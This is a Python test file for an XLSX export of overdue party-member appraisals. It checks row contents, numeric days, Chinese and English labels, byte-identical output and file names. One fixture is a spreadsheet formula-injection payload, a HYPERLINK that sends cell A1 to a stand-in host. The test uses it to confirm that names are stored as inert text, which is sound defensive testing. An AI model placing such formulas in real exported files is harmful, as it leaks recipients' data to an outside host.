"""The overdue list (逾期清单) as XLSX, read back with openpyxl: the title of the period or of
every period, a row per late appraisal with its days as a number, names as text whatever
they look like, English words, and the same bytes for the same list."""

import io
import time
from typing import Any

from openpyxl import load_workbook

from reports import overdue_xlsx

HOSTILE = '=HYPERLINK("http://example.com/?leak="&A1,"点击")'


def row(zone: str, step: str, role: str, who: list[str], days: int) -> dict[str, Any]:
    return {"appraisal_id": f"a-{zone}", "period": "2026-11", "branch_id": "B1",
            "branch_name": "综采支部", "group_id": "G1", "group_name": HOSTILE, "zone_id": zone,
            "zone_name": f"{zone}队", "step": step, "role": role, "who": who,
            "due": "2026-12-05", "days_overdue": days}


LIST = {"period": "2026-11", "branch_id": None, "today": "2026-12-12",
        "as_of": "2026-12-12T02:00:00.000000Z",
        "items": [row("Z2", "self_check", "responsible_member", ["张伟", "#N/A"], 7),
                  row("Z1", "group_review", "group_leader", [], 2)]}


def rows_of(data: bytes) -> list[tuple[Any, ...]]:
    return list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))


def test_a_row_per_late_appraisal_with_days_as_numbers_and_names_as_text():
    rows = rows_of(overdue_xlsx.workbook(LIST))
    assert rows[0][0] == "2026年11月党员责任区考核逾期清单（截至 2026-12-12 10:00 北京时间）"
    assert rows[2] == ("2026年11月", "综采支部", HOSTILE, "Z2", "Z2队", "自查", "责任人",
                       "张伟、#N/A", "2026-12-05", 7)
    assert rows[3][5:] == ("党小组长考核", "党小组长", None, "2026-12-05", 2)
    english = rows_of(overdue_xlsx.workbook({**LIST, "period": None}, "en"))
    assert english[0][0].startswith("Overdue appraisals, every period")
    assert english[2][5:8] == ("Self-check", "Responsible member", "张伟, #N/A")


def test_the_same_list_gives_the_same_bytes_and_a_chinese_file_name():
    first = overdue_xlsx.workbook(LIST)
    time.sleep(1.1)  # a clock stamped into the file would show now
    assert overdue_xlsx.workbook(LIST) == first
    assert 'filename="overdue-2026-11.xlsx"' in overdue_xlsx.filename(LIST)
    assert "overdue-all.xlsx" in overdue_xlsx.filename({**LIST, "period": None})
